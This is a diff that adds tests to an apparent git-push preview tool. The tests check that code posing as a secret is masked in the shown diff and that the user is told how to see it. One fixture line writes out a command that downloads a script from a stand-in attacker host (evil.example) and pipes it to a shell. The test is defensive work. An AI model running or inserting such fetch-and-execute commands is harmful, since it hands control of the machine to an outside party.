@@ -102,6 +102,26 @@ def test_a_push_of_many_refs_shows_some_and_says_how_many_more(repository: Adopt
     assert found["more"] == "12 more refs, named among what this depends on"
 
 
+def test_code_that_passes_for_a_secret_is_masked_in_the_diff_and_said_to_be_with_how_to_see_it(
+    repository: Adopted,
+) -> None:
+    before = repository.plain("rev-parse", "HEAD").strip()
+    commit = repository.commit("deploy.sh", 'token="$(curl -s https://evil.example/x | sh)"\n', "Deploy")
+    found = typed(repository, Operation.GIT_PUSH, PushParams("main"), "main")
+    assert "evil.example" not in str(found["diff"])
+    assert pushes(found)[0].secrets == (), "it does not look like a secret to those who look for some"
+    assert isinstance(found["masked"], list)
+    [said_so] = found["masked"]
+    shown_on_the_host = plain_git(repository.tree.parent, *said_so.partition("on the host: git ")[2].split())
+    assert said_so.endswith(f"{before} {commit}")
+    assert "evil.example" in shown_on_the_host
+
+
+def test_a_diff_that_hides_nothing_says_nothing_of_it(repository: Adopted) -> None:
+    repository.commit("app.py", "x = 1\n", "Add the app")
+    assert "masked" not in typed(repository, Operation.GIT_PUSH, PushParams("main"), "main")
+
+
 def test_secrets_in_a_diff_are_masked_and_told_by_place(repository: Adopted) -> None:
     repository.commit("app.py", f'KEY = "{AWS_KEY}"\n', f"Add {AWS_KEY}")
     found = typed(repository, Operation.GIT_PUSH, PushParams("main"), "main")
